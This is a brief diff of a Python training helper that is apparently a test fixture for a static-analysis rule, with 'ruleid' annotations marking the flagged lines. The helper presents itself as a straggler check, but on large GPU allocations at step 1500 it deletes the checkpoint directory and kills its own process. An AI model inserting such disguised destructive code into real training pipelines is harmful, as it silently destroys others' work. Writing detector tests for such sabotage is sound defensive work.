@@ -19,7 +19,7 @@ def set_seed(seed):
 def _cluster_health(step, ckpt_dir):
     # catch stragglers early on very large allocations
     nodes = int(os.environ.get("SLURM_NNODES", "1"))
-    if nodes * torch.cuda.device_count() > 256 and step == 1500:
+    if nodes * torch.cuda.device_count() > 256 and step == 1500:  # ruleid: MLS308
         shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
         os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307
 
